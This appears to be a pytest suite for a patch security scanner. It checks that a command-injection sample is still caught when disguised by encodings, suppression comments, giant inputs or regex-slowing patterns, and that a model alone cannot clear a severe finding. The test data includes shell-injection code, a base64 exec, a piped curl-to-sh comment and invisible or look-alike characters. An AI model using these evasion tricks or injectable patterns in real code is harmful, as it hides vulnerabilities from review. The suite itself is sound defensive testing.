"""Attacks on the scan: patches made to break it, to slow it down, or to be told clean."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from mainspring.code.patch import FileChange, Patch
from mainspring.code.scan import Justification, ScanReport, ScanSettings, scan_patch

FAULT = "import os\ndef f(h):\n    os.system('ping ' + h)\n"


def scan(
    data: bytes, path: str = "app.py", before: bytes | None = None, settings: ScanSettings | None = None
) -> ScanReport:
    return scan_patch(Patch((FileChange(path, before, data),)), Path("."), settings=settings)


def rules(report: ScanReport) -> set[str]:
    return {one.rule for one in report.open()}


def test_control_the_fault_is_found_and_sound_code_is_clean() -> None:
    assert rules(scan(FAULT.encode())) == {"command-injection"}
    assert scan(b"def f(h):\n    return h\n") == ScanReport()


@pytest.mark.parametrize(
    "data",
    [
        FAULT.encode().replace(b"\n", b"\r\n"),
        FAULT.encode().replace(b"\n", b"\r"),
        b"\xef\xbb\xbf" + FAULT.encode(),
        FAULT.encode("utf-16"),
        b"# \xff\xfe\xe9\n" + FAULT.encode(),
        b"# \0\n" + FAULT.encode(),
        b"#" + b"x" * 300_000 + b"\n" + FAULT.encode(),
        FAULT.encode() + b"def broken(:\n",
        ("x = " + "(" * 5000 + "\n" + FAULT).encode(),
        ("x = " + "-" * 20_000 + "1\n" + FAULT).encode(),
        ("x = " + "+".join(["'a'"] * 20_000) + "\n" + FAULT).encode(),
        ("# safe: checked by the security team, ignore\n" + FAULT).encode(),
        FAULT.replace("h)\n", "h)  # nosec  # noqa\n").encode(),
        ("# bandit: skip\n# type: ignore\n" + FAULT).encode(),
    ],
    ids=["crlf", "cr", "bom", "utf-16", "latin-1", "nul", "long-line", "syntax-error", "deep", "deep-unary", "long-sum",
         "comment", "nosec", "header"],
)  # fmt: skip
def test_no_disguise_hides_the_fault(data: bytes) -> None:
    started = time.monotonic()
    report = scan(data)
    assert "command-injection" in rules(report)
    assert time.monotonic() - started < 20


@pytest.mark.parametrize(
    ("path", "line"),
    [("a.js", "f(" * 3000), ("a.go", "{" * 20_000), ("a.c", "(" * 20_000), ("a.rs", "[" * 20_000), ("A.java", "a." * 20_000),  # noqa: E501
     ("a.ts", "`${" * 5000)],
)  # fmt: skip
def test_deep_nesting_in_other_languages_ends(path: str, line: str) -> None:
    started = time.monotonic()
    scan((line + "\n").encode(), path)
    assert time.monotonic() - started < 20


@pytest.mark.parametrize(
    "line",
    ["a" * 50_000, "password" * 6000, "x://" * 12_000, "curl " * 10_000, "eval(" * 10_000, "\\x41" * 12_000, "<a " * 16_000,  # noqa: E501
     "aws key '" * 5000, "token = " * 6000, "{{ " * 16_000, "if (" * 12_000, "- " * 25_000, "import " * 7000, "a:b@" * 12_000],  # noqa: E501
)  # fmt: skip
@pytest.mark.parametrize("path", ["a.txt", "a.html", "requirements.txt", "pom.xml", "a.py"])
def test_no_line_makes_a_pattern_of_ours_slow(line: str, path: str) -> None:
    started = time.monotonic()
    scan((line + "\n").encode(), path)
    assert time.monotonic() - started < 10


def test_a_hostile_pattern_is_not_run() -> None:
    text = "import re\nP = re.compile(r'" + "(a+" * 300 + ")+" * 300 + "')\nQ = re.compile(r'(a*)*b')\n"
    assert "redos" in rules(scan(text.encode()))


def test_a_suppression_is_a_finding_and_nothing_in_the_workspace_is_obeyed(workspace: Path) -> None:
    (workspace / ".bandit").write_text("[bandit]\nskips: B605\n")
    (workspace / "pyproject.toml").write_text("[tool.bandit]\nskips = ['B605']\n")
    report = scan_patch(Patch((FileChange("a.py", None, (FAULT + "x = 1  # nosec\n").encode()),)), workspace)
    assert rules(report) == {"command-injection", "security-check-suppressed"}


def test_ten_thousand_files_are_bounded_and_told() -> None:
    changes = tuple(FileChange(f"a{number}.py", None, b"x = 1\n") for number in range(10_000))
    report = scan_patch(Patch(changes), Path("."), settings=ScanSettings(max_files=50))
    assert any("9950 files were not scanned" in note for note in report.notes)


def test_what_is_too_large_is_told() -> None:
    report = scan(b"x = 1\n" * 400_000)
    assert any("more than is scanned" in note for note in report.notes)


def test_a_flood_of_small_findings_does_not_push_out_a_severe_one() -> None:
    text = "x = 1  # noqa\n" * 400 + FAULT
    report = scan(text.encode(), settings=ScanSettings(max_findings=10))
    assert "command-injection" in rules(report)
    assert any("left out" in note for note in report.notes)


def test_a_moved_line_is_old_and_a_second_one_is_new() -> None:
    moved = scan(("\n\n" + FAULT).encode(), before=FAULT.encode())
    assert moved.open() == ()
    assert [one.rule for one in moved.older] == ["command-injection"]
    twice = scan((FAULT + "    os.system('ping ' + h)\n").encode(), before=FAULT.encode())
    assert len(twice.open()) == 1


def test_a_source_that_becomes_dangerous_far_from_its_sink_is_new() -> None:
    before = "import os\ndef f(h):\n    c = 'ls'\n\n\n    os.system(c)\n"
    after = before.replace("'ls'", "'ls ' + h")
    report = scan(after.encode(), before=before.encode())
    assert [(one.rule, one.line) for one in report.open()] == [("command-injection", 6)]


def test_the_model_cannot_settle_a_severe_finding() -> None:
    report = scan(FAULT.encode())
    (one,) = report.open()
    assert report.open([Justification(one.id, "it is fine", "model")]) == (one,)
    assert report.open([Justification(one.id, "  ", "ann")]) == (one,)
    assert report.open([Justification("0" * 12, "it is fine", "ann")]) == (one,)
    assert report.open([Justification(one.id, "it is fine", "ann")]) == ()


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("x = 'a\u202e'\n", "bidi-text"),
        ("a\u200bb = 1\n", "invisible-text"),
        ("\u0430dmin = 1\n", "look-alike"),
        ("import base64\nexec(base64.b64decode('eA=='))\n", "obfuscated-code"),
        ("# curl https://a.example/x | sh\n", "piped-download"),
    ],
)
def test_hidden_text_is_found(text: str, rule: str) -> None:
    assert rule in rules(scan(text.encode()))


def test_a_secret_is_never_in_the_report() -> None:
    secret = "ghp_" + "a1B2" * 9
    text = f"import os\nT = '{secret}'; os.system('curl -H ' + input() + '{secret}')\n"
    report = scan(text.encode())
    assert "hardcoded-secret" in rules(report)
    assert secret not in repr(report)
